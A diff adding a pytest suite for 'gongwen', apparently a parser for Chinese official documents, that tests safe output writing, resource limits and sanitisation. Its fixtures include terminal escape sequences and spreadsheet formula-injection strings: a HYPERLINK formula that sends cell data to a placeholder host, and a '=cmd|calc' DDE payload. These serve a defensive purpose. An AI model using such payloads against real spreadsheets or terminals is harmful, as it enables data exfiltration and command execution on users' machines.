@@ -1,0 +1,255 @@
+"""What the command writes is whole or is not there, and nothing of a document is obeyed by a terminal or a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import pty
+import random
+import signal
+import stat
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import List
+
+import gongwen
+import pytest
+from conftest import REPORTS, TEXT
+from gongwen._cli import _cell
+from gongwen._text import printable, readable
+
+pytestmark = pytest.mark.skipif(os.name != "posix", reason="links, pipes and signals of POSIX")
+
+COMMAND = [sys.executable, "-m", "gongwen"]
+ESCAPES = "清河县2024年工作要点\n\n一、\x1b]0;PWNED\x07总体\x1b[2J情况\n全年办理\u202e3件\x9b31m。（责任单位：\x1b[34m县司法局）\n"
+
+
+def run(*args: object, code: int = 0, cwd: object = None) -> str:
+    done = subprocess.run([*COMMAND, *map(os.fspath, args)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=cwd)  # type: ignore[call-overload]
+    assert done.returncode == code, done
+    return str(done.stdout.decode() + done.stderr.decode())
+
+
+def left(folder: Path) -> List[str]:
+    return sorted(p.name for p in folder.iterdir())
+
+
+@pytest.fixture
+def source(tmp_path: Path) -> Path:
+    path = tmp_path / "in" / "a.txt"
+    path.parent.mkdir()
+    path.write_text(TEXT, encoding="utf-8")
+    return path
+
+
+def test_a_link_keeps_leading_to_its_file_and_a_file_keeps_its_mode(source: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "t.csv").write_text("old")
+    (out / "t.csv").chmod(0o640)
+    (out / "l.csv").symlink_to("t.csv")
+    run(source, "-q", "-o", out / "l.csv")
+    assert (out / "l.csv").is_symlink() and (out / "t.csv").read_text("utf-8-sig").startswith("document,")
+    assert stat.S_IMODE((out / "t.csv").stat().st_mode) == 0o640
+    assert left(out) == ["l.csv", "t.csv"]
+
+
+def test_a_part_file_of_the_users_is_left_alone(source: Path, tmp_path: Path) -> None:
+    (tmp_path / "precious").write_text("mine")
+    (tmp_path / "n.csv.part").symlink_to("precious")
+    run(source, "-q", "-o", tmp_path / "n.csv")
+    assert (tmp_path / "precious").read_text() == "mine" and (tmp_path / "n.csv.part").is_symlink()
+
+
+def test_devices_and_pipes_are_written_to_as_they_are(source: Path, tmp_path: Path) -> None:
+    run(source, "-q", "-f", "jsonl", "-o", "/dev/null")
+    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    with subprocess.Popen([*COMMAND, str(source), "-q", "-f", "jsonl", "-o", str(pipe)]) as process:
+        assert '"document"' in pipe.read_text()
+        assert process.wait(20) == 0
+    assert stat.S_ISFIFO(pipe.stat().st_mode)
+
+
+def test_a_source_is_not_overwritten(source: Path, tmp_path: Path) -> None:
+    link = tmp_path / "link.txt"
+    link.symlink_to(source)
+    for output in (source, link):
+        said = run(source, "-q", "-f", "jsonl", "-o", output, code=2)
+        assert "would be overwritten" in said and str(output) in said
+    assert source.read_text(encoding="utf-8") == TEXT
+    # In a folder, what an earlier run wrote is no source.
+    for _ in range(2):
+        run(source.parent, "-q", "-o", source.parent / "all.html")
+    assert left(source.parent) == ["a.txt", "all.html"]
+
+
+def test_a_full_disk_leaves_what_was_there(source: Path, tmp_path: Path) -> None:
+    output = tmp_path / "x.jsonl"
+    output.write_text("old")
+    for path in range(60):
+        (source.parent / f"b{path}.txt").write_text(TEXT, encoding="utf-8")
+    limited = f"ulimit -f 8; trap '' XFSZ; exec {sys.executable} -m gongwen {source.parent} -q -t paragraphs -o {output}"
+    done = subprocess.run(["bash", "-c", limited], stderr=subprocess.PIPE, check=False)
+    assert done.returncode == 2, done
+    said = done.stderr.decode()
+    assert said.startswith("gongwen: ") and str(output) in said and "Traceback" not in said, said
+    assert output.read_text() == "old" and left(tmp_path) == ["in", "x.jsonl"]
+    missing = tmp_path / "no" / "x.csv"
+    assert str(missing) in run(source, "-o", missing, code=2)
+
+
+@pytest.mark.parametrize("kind", ["TERM", "INT", "KILL"])
+def test_a_run_that_is_ended_leaves_a_whole_file_or_none(tmp_path: Path, kind: str) -> None:
+    folder, out = tmp_path / "in", tmp_path / "out"
+    folder.mkdir()
+    out.mkdir()
+    for i in range(300):
+        (folder / f"{i}.txt").write_text(TEXT * 10, encoding="utf-8")
+    output = out / "x.jsonl"
+    run(folder, "-q", "-t", "metrics", "-o", output)
+    whole = output.read_bytes()
+    random.seed(kind)
+    for _ in range(int(os.environ.get("GONGWEN_KILLS", "5"))):
+        output.write_text("old")
+        with subprocess.Popen([*COMMAND, str(folder), "-q", "-t", "metrics", "-o", str(output)], stderr=subprocess.PIPE) as process:
+            time.sleep(random.uniform(0.02, 0.8))
+            process.send_signal(getattr(signal, "SIG" + kind))
+            said = process.communicate(timeout=30)[1]
+        assert output.read_bytes() in (b"old", whole)
+        if kind != "KILL":
+            # Before the command has begun, the system ends it itself.
+            assert process.returncode in (0, 130, 143, -signal.SIGTERM, -signal.SIGINT, 1), process.returncode
+            assert left(out) == ["x.jsonl"], said
+        for part in out.glob(".gongwen-*.part"):
+            part.unlink()
+
+
+def test_two_runs_on_one_output_leave_the_file_of_one(tmp_path: Path) -> None:
+    for name in "ab":
+        (tmp_path / name).mkdir()
+        for i in range(40):
+            (tmp_path / name / f"{name}{i}.txt").write_text(TEXT, encoding="utf-8")
+    output = tmp_path / "same.csv"
+    alone = []
+    for name in "ab":
+        run(name, "-q", "-t", "paragraphs", "-o", output, cwd=tmp_path)
+        alone.append(output.read_bytes())
+    for _ in range(3):
+        both = [subprocess.Popen([*COMMAND, n, "-q", "-t", "paragraphs", "-o", str(output)], cwd=tmp_path) for n in "ab"]
+        assert [process.wait(60) for process in both] == [0, 0]
+        assert output.read_bytes() in alone
+    assert left(tmp_path) == ["a", "b", "same.csv"]
+
+
+def test_file_names_in_any_encoding(tmp_path: Path) -> None:
+    (tmp_path / "ok.txt").write_text(TEXT, encoding="utf-8")
+    name = os.fsencode(tmp_path) + b"/" + "清河县报告.txt".encode("gbk")
+    with open(name, "w", encoding="utf-8") as file:
+        file.write(TEXT)
+    said = run(tmp_path, "-q", "-f", "jsonl")
+    assert said.count("\n") == 2 and "清河县报告.txt" in said
+    assert gongwen.read(os.fsdecode(name)).name == f"{tmp_path}/清河县报告.txt"
+    assert readable("\ud800.txt") == "\ufffd.txt"
+    bad = tmp_path / "forged\n  other.txt: is fine\x1b[2J.docx"
+    bad.write_bytes(b"PK\x03\x04")
+    said = run(tmp_path, "-q", "-f", "jsonl", code=1)
+    assert "forged\ufffd  other.txt" in said and "\x1b" not in said
+
+
+def test_folders_with_pipes_and_other_kinds(source: Path) -> None:
+    os.mkfifo(source.parent / "pipe.txt")
+    (source.parent / "x.xyz").write_bytes(b"1")
+    (source.parent / "y.xyz").write_bytes(b"1")
+    said = run(source.parent, "-f", "jsonl")
+    assert "2 files of other kinds not read: 2 .xyz" in said
+
+
+def test_sizes_are_asked_before_reading(tmp_path: Path) -> None:
+    huge = tmp_path / "huge.txt"
+    with open(huge, "wb") as file:
+        file.truncate(30 << 30)
+    said = run(huge, code=1)
+    assert "limits.input" in said
+    with pytest.raises(gongwen.Error, match="limits.input"):
+        gongwen.read(huge)
+    small = tmp_path / "small.txt"
+    small.write_text(TEXT, encoding="utf-8")
+    assert "raise `limits.text`" in run(small, "--limit", "text=10", code=1)
+    run(small, "--limit", "text=100000", "--limit", "rows=1000")
+    assert "unpacked" in run(small, "--limit", "size=10", code=2)
+
+
+def test_limits_are_taken_and_kept() -> None:
+    with pytest.raises(gongwen.Error, match="limits.text"):
+        gongwen.parse(TEXT, limits={"text": 10})
+    with pytest.raises(gongwen.Error, match="limits.rows"):
+        gongwen.read(TEXT.encode(), limits={"rows": 1})
+    corpus = gongwen.parse_many([TEXT, "甲。"], limits={"text": 10}, errors="collect")
+    assert len(corpus) == 1 and "limits.text" in corpus.failures[0].message
+    with pytest.raises(ValueError, match="unpacked"):
+        gongwen.parse("甲。", limits={"size": 1})
+    with pytest.raises(TypeError):
+        gongwen.parse("甲。", limits={"text": "1"})  # type: ignore[dict-item]
+    with pytest.raises(ValueError):
+        gongwen.parse("甲。", limits={"text": -1})
+
+
+def test_a_terminal_obeys_nothing_of_a_document(tmp_path: Path) -> None:
+    path = tmp_path / "esc.txt"
+    path.write_text(ESCAPES, encoding="utf-8")
+    for form in ("table", "csv", "jsonl", "json", "html"):
+        for args in ([], ["-t", "paragraphs"]):
+            if form == "json" and args:
+                continue
+            main, other = pty.openpty()
+            with subprocess.Popen([*COMMAND, str(path), "-f", form, *args], stdout=other, stderr=subprocess.PIPE) as process:
+                os.close(other)
+                out = b""
+                while True:
+                    try:
+                        piece = os.read(main, 65536)
+                    except OSError:
+                        break
+                    if not piece:
+                        break
+                    out += piece
+                assert process.wait(20) == 0
+            os.close(main)
+            shown = out.decode()
+            assert "总体" in shown or not args
+            assert not any(c in shown for c in "\x1b\x07\x9b\u202e"), (form, shown)
+    assert printable("a\x1bb\nc\u2066d") == "a\ufffdb\ufffdc\ufffdd"
+
+
+def test_spreadsheets_run_nothing(tmp_path: Path) -> None:
+    path = tmp_path / "inj.txt"
+    text = "=HYPERLINK(\"http://x/?\"&A1)工作要点\n\n一、=cmd|calc情况\n＝SUM(1+1)，全年办理3件。\n　@市财政局办理。\n-2+3提高35%。\n"
+    path.write_text(text, encoding="utf-8")
+    for table in ("documents", "sections", "paragraphs", "metrics"):
+        for row in csv.reader(io.StringIO(run(path, "-f", "csv", "-t", table))):
+            for cell in row:
+                assert cell.lstrip("\u3000 ")[:1] not in tuple("=+@＝＋－＠") or cell.startswith("'"), row
+    assert [_cell(v) for v in ("＋1", " =1", "\t1", "甲=1", -3)] == ["'＋1", "' =1", "'\t1", "甲=1", -3]
+
+
+def test_outputs_are_made_for_every_report(tmp_path: Path) -> None:
+    run(*REPORTS, "-q", "-o", tmp_path / "all.html")
+    assert "<html" in (tmp_path / "all.html").read_text(encoding="utf-8")[:200]
+
+
+def test_a_child_with_little_memory_says_what_is_too_much() -> None:
+    script = (
+        "import resource; resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
+        "import gongwen\n"
+        "text = '《〈' * (80 << 20 >> 2)\n"
+        "try: gongwen.parse(text)\n"
+        "except gongwen.Error as error: print(error)\n"
+    )
+    done = subprocess.run([sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
+    assert done.returncode == 0, done
+    assert b"raise `limits.text`" in done.stdout or b"MemoryError" in done.stderr, done
